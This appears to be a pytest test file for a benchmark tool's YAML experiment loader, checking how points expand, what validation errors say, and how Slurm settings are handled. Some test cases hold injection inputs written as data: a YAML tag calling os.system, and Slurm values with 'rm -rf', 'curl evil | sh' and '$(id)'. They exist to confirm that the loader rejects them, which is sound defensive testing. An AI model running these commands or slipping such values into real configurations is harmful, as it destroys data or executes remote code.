"""Experiment files: loading, validation messages (file:line: key.path), expansion, the shipped examples."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from ringbench import experiment
from ringbench.config import point_id
from ringbench.experiment import ExperimentError

from conftest import ROOT, ringbench

EXAMPLES = sorted((ROOT / "experiments").glob("*.yaml"))


def write(tmp_path: Path, text: str, name: str = "exp.yaml") -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text).lstrip())
    return path


def error_of(tmp_path: Path, text: str) -> str:
    path = write(tmp_path, text)
    with pytest.raises(ExperimentError) as info:
        experiment.load(path)
    msg = str(info.value)
    assert "\n" not in msg
    return msg.replace(str(path), "FILE")


# ---------------------------------------------------------------------------------------------
# the shipped examples
# ---------------------------------------------------------------------------------------------
def test_examples_exist():
    names = {p.stem for p in EXAMPLES}
    assert {"quick", "strong-scaling", "weak-scaling", "block-overlap", "causal-layouts", "modes"} <= names


@pytest.mark.parametrize("path", EXAMPLES, ids=[p.stem for p in EXAMPLES])
def test_example_loads_and_expands(path):
    exp = experiment.load(path)
    assert exp.points
    assert len({p.id for p in exp.points}) == len(exp.points)
    for p in exp.points:
        assert p.id == point_id(p.config, p.nranks)
        assert p.work() > 0


def test_weak_scaling_keeps_tokens_per_rank():
    exp = experiment.load(ROOT / "experiments" / "weak-scaling.yaml")
    assert {p.config.seq_len // p.nranks for p in exp.points} == {4096}
    assert [p.nranks for p in exp.points] == [1, 2, 4, 8]


def test_strong_scaling_fixes_seq_len():
    exp = experiment.load(ROOT / "experiments" / "strong-scaling.yaml")
    assert {p.config.seq_len for p in exp.points} == {32768}
    assert {p.nranks for p in exp.points} == {1, 2, 4, 8}


def test_plan_every_example_by_cli():
    for path in EXAMPLES:
        res = ringbench("plan", path)
        assert res.returncode == 0, res.stderr
        assert f"experiment {path.stem}" in res.stdout


# ---------------------------------------------------------------------------------------------
# expansion
# ---------------------------------------------------------------------------------------------
def test_matrix_zip_exclude(tmp_path):
    path = write(
        tmp_path,
        """
        name: mix
        base: {heads: 4, head_dim: 16, repeat: 2}
        matrix:
          mode: [overlap, blocking]
        zip:
          - ranks: [1, 2]
            seq_len: [256, 512]
        exclude:
          - {mode: blocking, ranks: 1}
    """,
    )
    exp = experiment.load(path)
    got = [(p.config.mode, p.nranks, p.config.seq_len) for p in exp.points]
    assert got == [("overlap", 1, 256), ("overlap", 2, 512), ("blocking", 2, 512)]
    assert exp.excluded == 1
    assert exp.points[0].config.heads == 4 and exp.points[0].config.repeat == 2


def test_ids_are_stable_across_loads_and_key_order(tmp_path):
    a = write(
        tmp_path,
        """
        name: a
        base: {seq_len: 512, heads: 2}
        matrix: {mode: [overlap, blocking], causal: [false, true]}
        ranks: [2]
    """,
        "a.yaml",
    )
    b = write(
        tmp_path,
        """
        name: b
        base: {heads: 2, seq_len: 512, repeat: 7}
        matrix: {causal: [false, true], mode: [overlap, blocking]}
        ranks: [2]
    """,
        "b.yaml",
    )
    ids_a = {p.id for p in experiment.load(a).points}
    assert ids_a == {p.id for p in experiment.load(a).points}
    assert ids_a == {p.id for p in experiment.load(b).points}  # repeat does not change what is measured


def test_resolved_copy_reloads_to_the_same_points(tmp_path):
    from ringbench.sweep import Layout, write_snapshot

    exp = experiment.load(ROOT / "experiments" / "quick.yaml")
    lay = Layout(tmp_path, exp.name)
    lay.make()
    write_snapshot(exp, lay)
    again = experiment.load(lay.snapshot)
    assert [p.id for p in again.points] == [p.id for p in exp.points]
    assert again.slurm.partition == exp.slurm.partition == "debug"


# ---------------------------------------------------------------------------------------------
# validation: one line naming file, line and key path
# ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text, expected",
    [
        (
            """
        name: x
        matrix:
          seq_len: [256, 512, abc]
     """,
            "FILE:3: matrix.seq_len[2]: expected an integer, got 'abc'",
        ),
        (
            """
        name: x
        base:
          seq_len: 512
          haeds: 4
     """,
            "FILE:4: base.haeds: unknown key (did you mean 'heads'?)",
        ),
        (
            """
        name: x
        matirx: {mode: [overlap]}
     """,
            "FILE:2: matirx: unknown key (did you mean 'matrix'?)",
        ),
        (
            """
        name: x
        matrix:
          mode: [overlap, ring]
     """,
            "FILE:3: matrix.mode[1]: expected one of overlap, blocking, allgather; got 'ring'",
        ),
        (
            """
        name: x
        base: {seq_len: 1002}
        matrix:
          layout: [contiguous, zigzag]
        ranks: [1, 2]
     """,
            "FILE:2: base.seq_len: 1002 is not divisible by 4 (2 x ranks, layout zigzag at 2 ranks)",
        ),
        (
            """
        name: x
        base: {seq_len: 1024, heads: 4}
        matrix:
          kv_heads: [4, 2, 3]
     """,
            "FILE:4: matrix.kv_heads[2]: must divide heads=4; got 3",
        ),
        (
            """
        name: x
        zip:
          - ranks: [1, 2]
            seq_len: [256]
     """,
            "FILE:4: zip[0].seq_len: has 1 values but ranks has 2",
        ),
        (
            """
        name: x
        matrix: {mode: [overlap]}
        exclude:
          - {mode: blocking}
     """,
            "FILE:4: exclude[0]: matches no point",
        ),
        (
            """
        name: x
        matrix: {ranks: [1, 2]}
        ranks: [4]
     """,
            "FILE:3: ranks: ranks are also swept in matrix.ranks; keep one",
        ),
        (
            """
        name: x
        ranks: [2, 0]
     """,
            "FILE:2: ranks[1]: expected a positive integer rank count, got 0",
        ),
        (
            """
        name: x
        matrix: {repeat: [1, 2]}
     """,
            "are the same measurement",
        ),
        (
            """
        name: x
        base: {seq_len: 256}
        base: {seq_len: 512}
     """,
            "FILE:3: base: duplicate key",
        ),
        (
            """
        name: "bad name"
     """,
            "FILE:1: name: expected a name of letters",
        ),
        (
            """
        name: x
        timeout: -1
     """,
            "FILE:2: timeout: expected a positive number of seconds, got -1",
        ),
        (
            """
        name: x
        base: [1, 2]
     """,
            "FILE:2: base: expected a mapping of keys to values, got a list",
        ),
        (
            """
        name: x
        base: {seq_len: 512
     """,
            "FILE:3: not valid YAML: expected ',' or '}'",
        ),
    ],
)
def test_errors_name_file_line_and_key(tmp_path, text, expected):
    assert expected in error_of(tmp_path, text)


def test_safe_load_only(tmp_path):
    msg = error_of(
        tmp_path,
        """
        name: x
        base: !!python/object/apply:os.system ["echo hacked"]
    """,
    )
    assert "not valid YAML" in msg


def test_missing_file(tmp_path):
    with pytest.raises(ExperimentError, match="cannot read"):
        experiment.load(tmp_path / "nope.yaml")


def test_cli_error_is_one_line_exit_2(tmp_path):
    path = write(
        tmp_path,
        """
        name: x
        matrix:
          seq_len: [256, 512, abc]
    """,
    )
    res = ringbench("plan", path)
    assert res.returncode == 2
    assert res.stderr.strip() == f"ringbench plan: {path}:3: matrix.seq_len[2]: expected an integer, got 'abc'"
    assert res.stdout == ""


# ---------------------------------------------------------------------------------------------
# slurm section and profiles
# ---------------------------------------------------------------------------------------------
def test_profile_merged_and_overridden(tmp_path):
    prof = tmp_path / "slurm" / "profiles"
    prof.mkdir(parents=True)
    (prof / "site.yaml").write_text("partition: gpu\ngpus_per_node: 4\nsetup: [module load cuda]\ntime: '01:00:00'\n")
    (tmp_path / "experiments").mkdir()
    path = write(
        tmp_path / "experiments",
        """
        name: x
        slurm:
          profile: site
          time: "00:20:00"
    """,
    )
    spec = experiment.load(path).slurm
    assert (spec.partition, spec.gpus_per_node, spec.time, spec.profile) == ("gpu", 4, "00:20:00", "site")
    assert spec.setup == ["module load cuda"]


def test_unknown_profile_lists_available(tmp_path):
    prof = tmp_path / "slurm" / "profiles"
    prof.mkdir(parents=True)
    (prof / "juwels.yaml").write_text("partition: booster\n")
    msg = error_of(
        tmp_path,
        """
        name: x
        slurm: {profile: juwel}
    """,
    )
    assert msg.startswith("FILE:2: slurm.profile: profile 'juwel' not found (did you mean 'juwels'?); available: ")
    assert "juwels" in msg.split("available: ")[1]


def test_error_in_profile_names_the_profile(tmp_path):
    prof = tmp_path / "slurm" / "profiles"
    prof.mkdir(parents=True)
    (prof / "site.yaml").write_text("partition: gpu\ngpus_per_node: many\n")
    path = write(tmp_path, "name: x\nslurm: {profile: site}\n")
    with pytest.raises(ExperimentError) as info:
        experiment.load(path)
    assert str(info.value) == f"{prof / 'site.yaml'}:2: gpus_per_node: expected an integer >= 0, got 'many'"


@pytest.mark.parametrize(
    "slurm, expected",
    [
        ('job_name: "x; rm -rf ~"', "slurm.job_name: expected letters"),
        ('partition: "gpu\\n#SBATCH --uid=0"', "slurm.partition: expected a partition name"),
        ('setup: ["module load cuda; curl evil | sh"]', "slurm.setup[0]: a setup line is one simple command"),
        ('setup: ["echo $(id)"]', "slurm.setup[0]: a setup line is one simple command"),
        ('setup: ["module load a\\nrm -rf /"]', "slurm.setup[0]: expected a one-line command"),
        ('sbatch: ["--mem=8G\\nrm -rf /"]', "slurm.sbatch[0]: expected one long sbatch option"),
        ('sbatch: ["--array=0-99"]', "slurm.sbatch[0]: --array may not be given here: ringbench sets it"),
        ('sbatch: ["--time=10"]', "slurm.sbatch[0]: --time may not be given here: use slurm.time"),
        ('env: {"A B": x}', "slurm.env.A B: expected an environment variable name"),
        ("launcher: mpirun", "slurm.launcher: expected one of srun, mpiexec; got 'mpirun'"),
        ('time: "1 day"', "slurm.time: expected a Slurm time limit"),
        ("gpu_per_node: 4", "slurm.gpu_per_node: unknown key (did you mean 'gpus_per_node'?)"),
    ],
)
def test_slurm_values_reaching_a_shell_are_validated(tmp_path, slurm, expected):
    msg = error_of(tmp_path, f"name: x\nslurm:\n  {slurm}\n")
    assert f"FILE:3: {expected}" in msg


def test_template_path_is_relative_to_the_file_naming_it(tmp_path):
    (tmp_path / "site.sbatch.sh").write_text("#!/bin/bash\n$sbatch\n$setup\nexec $command\n")
    path = write(tmp_path, "name: x\nslurm: {template: site.sbatch.sh}\n")
    assert experiment.load(path).slurm.template == str(tmp_path / "site.sbatch.sh")
    msg = error_of(tmp_path, "name: x\nslurm: {template: nope.sh}\n")
    assert msg.startswith("FILE:2: slurm.template: template 'nope.sh' not found")


def test_plan_accepts_points_whose_old_ids_collided(tmp_path):
    """seed 73 / batch 217 and seed 127 / batch 87 had the same 8-hex id: plan refused them as one measurement."""
    path = write(
        tmp_path,
        """
        name: collide
        zip:
          - seed: [73, 127]
            batch: [217, 87]
        ranks: [4]
    """,
    )
    exp = experiment.load(path)
    assert [(p.config.seed, p.config.batch) for p in exp.points] == [(73, 217), (127, 87)]
    assert len({p.id for p in exp.points}) == 2
